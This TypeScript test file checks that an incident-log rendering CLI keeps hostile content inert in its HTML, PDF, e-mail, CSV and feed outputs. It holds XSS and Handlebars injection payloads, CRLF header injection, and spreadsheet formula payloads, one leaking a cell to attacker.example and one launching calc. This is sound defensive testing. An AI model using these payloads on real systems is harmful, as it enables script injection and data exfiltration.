/**
 * A log full of hostile content, rendered by the CLI to every format (HTML, PDF, plain text,
 * e-mail), then every output file read back: nothing in them can run, load or inject anything, and
 * the hostile text is still there, shown as text. Images, links and stylesheets point at a local
 * HTTP server that must not receive a single request while Chromium prints the PDFs.
 */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { simpleParser } from 'mailparser';
import { stringify } from 'yaml';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { findChromium } from '../../src/pdf/find-chromium.js';
import { launchPdfPrinter } from '../../src/pdf/pdf-printer.js';
import { runCli, tempDir } from '../helpers.js';
import { expectInertHtml, expectPlainText, expectSafeEml, tagsOf } from './inert.js';

let server: Server;
const requests: string[] = [];
let base = '';

beforeAll(async () => {
  server = createServer((request, response) => {
    requests.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'content-type': 'text/plain' });
    response.end('seen');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await new Promise<void>((resolve) => server.close(() => resolve()));
});

/** Hostile snippets, each of which must come out as inert text. */
const script = '<script>alert(1)</script>';
const onerror = '<img src=x onerror=alert(1)>';
const handlebars = "{{constructor.constructor('globalThis.wartaPwned = 1')()}}";
const partial = '{{> layout}}';
const titleBreak = '</title><script>alert(1)</script>';

function hostileLog(): string {
  const value = (what: string) =>
    `${what} ${script} ${onerror} ${handlebars} ${partial} <a href="javascript:alert(1)">x</a> [js](javascript:alert(1))`;
  const frontMatter = {
    id: 'hostile',
    title: `Outage ${titleBreak} ${handlebars}\r\nBcc: victim@example.com\r\nX-Injected: yes`,
    type: 'incident',
    status: 'resolved',
    languages: ['en'],
    timezone: 'UTC',
    organization: `Evil Corp <attacker@example.com>\r\nBcc: victim@example.com`,
    author: value('author'),
    approvers: [value('approver'), `<iframe src="${base}/approver-frame"></iframe>`],
    contacts: [value('contact'), `<${base}/contact-autolink>`, 'javascript:alert(1)', `![c](${base}/contact-image.png)`],
    systems: [
      { name: value('system'), impact: `${value('impact')} <style>@import url(${base}/system.css)</style>` },
      `<span style="background:url(${base}/system-style.png)">styled</span>`,
    ],
    detected: '2024-03-05T14:02',
    resolved: '2024-03-05T16:42',
    decision: {
      outcome: 'rollback',
      at: '2024-03-05T15:14',
      by: value('by'),
      rationale: `${value('rationale')} ![r](${base}/rationale.png) [ok](https://example.com/ok)`,
      alternatives: [{ option: value('option'), risk: `${value('risk')} <${base}/risk-autolink>` }],
    },
    impact: {
      users: `${value('users')} ![u](${base}/users.png)`,
      summary: value('summary'),
      downtime: 'PT2H',
      data_loss: value('data loss'),
    },
    actions: [
      {
        title: `${value('action')} [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
        owner: value('owner'),
        due: '2024-04-01',
        priority: value('priority'),
      },
      { title: '=HYPERLINK("https://attacker.example/?leak="&A1,"click")', owner: "@SUM(1+1)*cmd|' /C calc'!A0", due: '2024-04-02' },
      { title: "+cmd|' /C calc'!A0", owner: '-2+3', due: '2024-04-03' },
    ],
    tags: [value('tag')],
  };
  const body = `
## Summary

${value('body')}

<div onclick="alert(1)" style="background:url(${base}/div-style.png)">raw html block</div>

<iframe src="${base}/iframe"></iframe>

<svg onload="alert(1)"><image href="${base}/svg-image.png"/></svg>

<style>@import url(${base}/import.css); body { background: url(${base}/body-bg.png) }</style>

<link rel="stylesheet" href="${base}/link.css">

<meta http-equiv="refresh" content="0;url=${base}/refresh">

<object data="${base}/object"></object> <embed src="${base}/embed"> <base href="${base}/base/">

<form action="${base}/form"><button formaction="${base}/formaction">go</button></form>

Links: [javascript](javascript:alert(1)) [JAVASCRIPT](JAVASCRIPT:alert(1)) [entity](&#106;avascript:alert(1))
[vbscript](vbscript:msgbox(1)) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[file](file:///etc/passwd) [local link](${base}/markdown-link) [reference][evil] [good reference][good]

Autolinks: <javascript:alert(1)> <vbscript:msgbox(1)> <data:text/html,<script>alert(1)</script>> <${base}/autolink>

Images: ![remote](https://attacker.example/p.png) ![local](${base}/image.png) ![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) ![ref image][img]

Entities: &lt;script&gt;alert(1)&lt;/script&gt; &#60;iframe&#62; &amp;lt;b&amp;gt;

Handlebars: ${handlebars} ${partial} {{{css}}} {{#each this}}x{{/each}}

[evil]: javascript:alert(1)
[good]: https://example.com/reference
[img]: ${base}/reference-image.png

## Timeline

- 14:02 — ${value('timeline')} ![t](${base}/timeline.png)
- 15:14 — decision <script src="${base}/timeline.js"></script>

## ${script} custom section ${handlebars}

${value('custom')}

<img src="${base}/custom.png" onerror="alert(1)">

## Announcement

${value('announcement')} ![a](${base}/announcement.png)
`;
  return `---\n${stringify(frontMatter, { lineWidth: 0 })}---\n${body}`;
}

/** Every entity of a document decoded, so text shown to a reader can be compared with what the log said. */
const shownText = (html: string) =>
  html
    .replace(/<[^>]*>/g, '')
    .replace(/&#x([0-9a-f]+);/gi, (_, h: string) => String.fromCodePoint(Number.parseInt(h, 16)))
    .replace(/&#(\d+);/g, (_, d: string) => String.fromCodePoint(Number.parseInt(d, 10)))
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');

let out: string;
let files: string[];
let result: Awaited<ReturnType<typeof runCli>>;

describe('hostile content in a log is inert in every output', () => {
  beforeAll(async () => {
    const dir = tempDir('warta-hostile-');
    mkdirSync(join(dir, 'logs'));
    writeFileSync(join(dir, 'logs', 'hostile.md'), hostileLog());
    out = join(dir, 'out');
    // A folder, so the archive (index, incidents.json, actions.csv, notices.atom) is built too.
    result = await runCli(['render', 'logs', '-o', out], dir);
    files = readdirSync(join(out, 'hostile')).sort();
  }, 180_000);

  it('renders every format (exit 0) with the hostile log accepted as text', () => {
    expect(result.code, `${result.stdout}\n${result.stderr}`).toBe(0);
    for (const name of [
      'report.en.html',
      'report.en.pdf',
      'notice.html',
      'notice.pdf',
      'notice.en.txt',
      'notice.eml',
      'lessons.en.html',
      'lessons.en.pdf',
    ])
      expect(files).toContain(name);
  });

  it('made no request at all: not while rendering HTML, not while Chromium printed the PDFs', () => {
    expect(requests).toEqual([]);
  });

  it('HTML: no script, no event handler, no loading tag, no unsafe link, and a CSP that forbids them anyway', () => {
    for (const name of files.filter((f) => f.endsWith('.html') && f !== 'index.html')) {
      const html = readFileSync(join(out, 'hostile', name), 'utf8');
      expectInertHtml(html, name);
      expect(html, name).not.toMatch(/<script/i);
      expect(html, name).not.toMatch(/<iframe/i);
      expect(html, name).not.toMatch(/<[^>]*\son\w+\s*=/i);
      expect(html, name).not.toMatch(/\ssrc\s*=\s*["']?\s*https?:/i);
      expect(html, name).not.toMatch(/href\s*=\s*["']?\s*(?:javascript|vbscript|data|file):/i);
      // Links that are allowed stay links; the local server's address appears only as text or a plain link.
      for (const tag of tagsOf(html))
        if (tag.name !== 'a') expect(tag.attrs.map(([, v]) => v).join(' '), `${name} <${tag.name}>`).not.toContain(base);
    }
  });

  it('HTML: the hostile text is still there for the reader, shown as text', () => {
    const report = readFileSync(join(out, 'hostile', 'report.en.html'), 'utf8');
    const lessons = readFileSync(join(out, 'hostile', 'lessons.en.html'), 'utf8');
    const notice = readFileSync(join(out, 'hostile', 'notice.html'), 'utf8');
    for (const html of [report, lessons, notice]) {
      const text = shownText(html);
      expect(text).toContain(script);
      expect(text).toContain(handlebars);
      expect(text).toContain(partial);
    }
    // The title is text inside <title>, which it cannot close.
    expect(report).toMatch(/<title>Outage &lt;\/title&gt;&lt;script&gt;/);
    expect(shownText(lessons)).toContain('<img src=x onerror=alert(1)>');
    expect(shownText(lessons)).toContain('{{#each this}}x{{/each}}');
    // A safe link is kept as a link, an unsafe one is text.
    expect(lessons).toMatch(/<a href="https:\/\/example\.com\/reference"/);
    expect(shownText(lessons)).toContain('[javascript](javascript:alert(1))');
    // Images are never loaded: their alt text and, for http(s), their address are shown.
    expect(lessons).toMatch(
      /<span class="image-placeholder">\[remote\] <span class="image-src">\(https:\/\/attacker\.example\/p\.png\)<\/span><\/span>/,
    );
    // Handlebars did not evaluate what looked like a template.
    expect((globalThis as Record<string, unknown>).wartaPwned).toBeUndefined();
  });

  it('PDF: no JavaScript, no launch or form actions, links only to http(s) and mailto; the hostile text is printed as text', () => {
    for (const name of files.filter((f) => f.endsWith('.pdf'))) {
      const pdf = readFileSync(join(out, 'hostile', name));
      expect(pdf.subarray(0, 5).toString('latin1')).toBe('%PDF-');
      const raw = pdf.toString('latin1');
      expect(raw, name).not.toMatch(/\/(?:JavaScript|JS|Launch|SubmitForm|ImportData|EmbeddedFile|GoToR|RichMedia)\b/);
      for (const uri of raw.matchAll(/\/URI\s*\(([^)]*)\)/g)) expect(uri[1], name).toMatch(/^(?:https?:|mailto:)/);
    }
    const text = execFileSync('pdftotext', ['-raw', '-enc', 'UTF-8', join(out, 'hostile', 'lessons.en.pdf'), '-'], {
      encoding: 'utf8',
    }).replace(/\s+/g, ' ');
    expect(text).toContain('<script>alert(1)</script>');
    expect(text).toContain('{{> layout}}');
  });

  it('plain text: the hostile text as harmless text, with no control characters', () => {
    for (const name of files.filter((f) => f.endsWith('.txt'))) {
      const text = readFileSync(join(out, 'hostile', name), 'utf8');
      expectPlainText(text, name);
      expect(text).toContain(handlebars);
      expect(text).toContain('<img src=x onerror=alert(1)>');
    }
  });

  it('e-mail: a title or organization with CR/LF cannot add a header; the hostile text travels encoded', async () => {
    const eml = readFileSync(join(out, 'hostile', 'notice.eml'), 'utf8');
    expectSafeEml(eml);
    const headers = eml.slice(0, eml.indexOf('\r\n\r\n'));
    expect(headers).not.toMatch(/^(?:bcc|x-injected):/im);
    const parsed = await simpleParser(eml);
    expect(parsed.headers.has('bcc')).toBe(false);
    expect(parsed.headers.has('x-injected')).toBe(false);
    expect(parsed.subject).toMatch(
      /^\[[^\]]+\] Outage <\/title><script>alert\(1\)<\/script> \{\{constructor.*Bcc: victim@example\.com X-Injected: yes$/,
    );
    expect(parsed.from?.value).toEqual([{ address: 'noreply@invalid', name: 'Evil Corp attacker@example.com Bcc: victim@example.com' }]);
    expect(parsed.text).toContain(handlebars);
    expectInertHtml(String(parsed.html), 'e-mail HTML part');
  });
});

/** Attributes that make a browser load what they name. */
const loading = new Set([
  'src',
  'srcset',
  'action',
  'formaction',
  'data',
  'poster',
  'background',
  'style',
  'xlink:href',
  'ping',
  'content',
]);

/** Every file under a folder, relative to it. */
function allFiles(dir: string, prefix = ''): string[] {
  return readdirSync(join(dir, prefix), { withFileTypes: true }).flatMap((entry) =>
    entry.isDirectory() ? allFiles(dir, join(prefix, entry.name)) : [join(prefix, entry.name)],
  );
}

describe('the archive built with the documents is inert too', () => {
  it('every page: only the scripts its CSP names by hash, JSON data that cannot close its element, no handler, no unsafe link', () => {
    const pages = allFiles(out).filter((name) => name.endsWith('.html'));
    expect(pages).toContain('index.html');
    for (const name of pages) {
      const html = readFileSync(join(out, name), 'utf8');
      const tags = tagsOf(html);
      const policy =
        tags
          .find((t) => t.name === 'meta' && t.attrs.some(([n, v]) => n === 'http-equiv' && v.toLowerCase() === 'content-security-policy'))
          ?.attrs.find(([n]) => n === 'content')?.[1] ?? '';
      expect(policy, `${name}: CSP`).toMatch(/default-src 'none'/);
      expect(policy, `${name}: CSP`).not.toMatch(/unsafe-eval|'unsafe-inline'[^;]*;?\s*$|script-src[^;]*(?:'unsafe-inline'|\*|https?:)/);
      for (const match of html.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/gi)) {
        const [, attrs = '', body = ''] = match;
        expect(attrs, `${name}: script attributes`).not.toMatch(/\ssrc\s*=/i);
        if (attrs.includes('type="application/json"')) {
          expect(body, `${name}: JSON data`).not.toMatch(/<\/script|<!--/i);
          expect((): unknown => JSON.parse(body), `${name}: JSON data`).not.toThrow();
        } else {
          const hash = `'sha256-${createHash('sha256').update(body, 'utf8').digest('base64')}'`;
          expect(policy, `${name}: an inline script the CSP does not name`).toContain(hash);
          expect(body, `${name}: warta's own script holds no log text`).not.toContain('alert(1)');
        }
      }
      for (const tag of tags) {
        for (const [attr, value] of tag.attrs) {
          expect(attr.startsWith('on'), `${name}: <${tag.name} ${attr}>`).toBe(false);
          if (attr === 'href' || attr === 'src' || attr === 'action' || attr === 'formaction')
            expect(value.replace(/[\s\u0000-\u001f]/g, ''), `${name}: <${tag.name} ${attr}="${value}">`).toMatch(
              /^(?:https?:|mailto:|#|(?![a-z][a-z0-9+.-]*:)(?!\/\/)[^:]*$)/i,
            );
        }
      }
      expect(html, name).not.toMatch(/<(?:iframe|object|embed|img|base)\b/i);
      // The archive's own search form submits nowhere (no action, and the CSP says form-action 'none').
      for (const tag of tags.filter((t) => t.name === 'form'))
        expect(
          tag.attrs.map(([n]) => n),
          name,
        ).not.toContain('action');
      // A <link> only to announce the feed (rel=alternate loads nothing).
      for (const tag of tags.filter((t) => t.name === 'link')) expect(tag.attrs, name).toContainEqual(['rel', 'alternate']);
      // The local server's address may be shown as text, be a value or a link, never anything that loads.
      for (const tag of tags)
        for (const [attr, value] of tag.attrs)
          if (loading.has(attr) || (attr === 'href' && tag.name !== 'a'))
            expect(value, `${name} <${tag.name} ${attr}>`).not.toContain(base);
    }
  });

  it('incidents.json holds the hostile text as plain data', () => {
    const json = JSON.parse(readFileSync(join(out, 'incidents.json'), 'utf8')) as unknown;
    expect(JSON.stringify(json)).toContain(JSON.stringify(titleBreak).slice(1, -1));
  });

  it('actions.csv has no cell a spreadsheet would run as a formula', () => {
    const csv = readFileSync(join(out, 'actions.csv'), 'utf8');
    for (const line of csv.split(/\r?\n/)) {
      for (const cell of line.split(',')) expect(cell.replace(/^"/, ''), `cell ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(csv).toContain("'=HYPERLINK(");
  });

  it('notices.atom carries the hostile text escaped', () => {
    const atom = readFileSync(join(out, 'notices.atom'), 'utf8');
    expect(atom).not.toMatch(/<(?:script|img|iframe)\b/i);
    expect(atom).toContain('&lt;/title&gt;&lt;script&gt;');
  });
});

describe('the PDF printer is sealed even if hostile HTML got past the renderer', () => {
  it('prints a page full of loading tags, scripts and CSS URLs without a single request', async () => {
    requests.length = 0;
    const printer = await launchPdfPrinter({ executablePath: findChromium(), concurrency: 1 });
    try {
      const html = `<!doctype html><html><head><meta charset="utf-8">
<link rel="stylesheet" href="${base}/link.css"><link rel="prefetch" href="${base}/prefetch"><link rel="preload" as="image" href="${base}/preload.png">
<link rel="icon" href="${base}/favicon.ico"><base href="${base}/base/">
<style>@import url(${base}/import.css); @font-face { font-family: X; src: url(${base}/font.woff2) } body { font-family: X; background: url(${base}/bg.png) }</style>
<script src="${base}/script.js"></script><script>fetch('${base}/fetch'); new Image().src = '${base}/js-image';</script>
</head><body>
<img src="${base}/img.png" srcset="${base}/srcset.png 2x"><img src="relative.png">
<iframe src="${base}/iframe"></iframe><iframe src="file:///etc/passwd"></iframe>
<object data="${base}/object"></object><embed src="${base}/embed"><video poster="${base}/poster.png" src="${base}/video.mp4"></video>
<audio src="${base}/audio.mp3"></audio><svg><image href="${base}/svg.png"/><use href="${base}/sprite.svg#a"/></svg>
<div style="background-image:url(${base}/inline.png)">text</div><a href="${base}/link" ping="${base}/ping">link</a>
<form action="${base}/form"><input type="image" src="${base}/input.png"></form>
</body></html>`;
      const pdf = await printer.print({
        html,
        headerLeft: `<img src="${base}/header.png">`,
        headerRight: 'x',
        footerLeft: 'y',
        pageOf: '{page}/{pages}',
      });
      expect(Buffer.from(pdf).subarray(0, 5).toString('latin1')).toBe('%PDF-');
    } finally {
      await printer.close();
    }
    expect(requests).toEqual([]);
  }, 120_000);

  it('a meta refresh does not reach the network either', async () => {
    requests.length = 0;
    const printer = await launchPdfPrinter({ executablePath: findChromium(), concurrency: 1 });
    try {
      const html = `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=${base}/refresh"></head><body>x</body></html>`;
      // Printing may fail: the refresh navigates away from the document (see the report of issue 6);
      // what matters here is that the navigation is blocked before it leaves the browser.
      await printer.print({ html, headerLeft: '', headerRight: '', footerLeft: '', pageOf: '{page}/{pages}' }).catch(() => undefined);
    } finally {
      await printer.close();
    }
    expect(requests).toEqual([]);
  }, 120_000);

  // Enable when pdf-printer answers main-frame navigations with 204 (see the report of issue 6):
  // an aborted navigation replaces the document by Chromium's error page, a 204 keeps it.
  it('a meta refresh cannot replace the document being printed', async () => {
    const printer = await launchPdfPrinter({ executablePath: findChromium(), concurrency: 1 });
    const dir = tempDir('warta-refresh-');
    try {
      const html = `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=${base}/refresh"></head><body>the original document</body></html>`;
      const pdf = await printer.print({ html, headerLeft: '', headerRight: '', footerLeft: '', pageOf: '{page}/{pages}' });
      writeFileSync(join(dir, 'refresh.pdf'), pdf);
      expect(execFileSync('pdftotext', [join(dir, 'refresh.pdf'), '-'], { encoding: 'utf8' })).toContain('the original document');
    } finally {
      await printer.close();
    }
  }, 120_000);
});
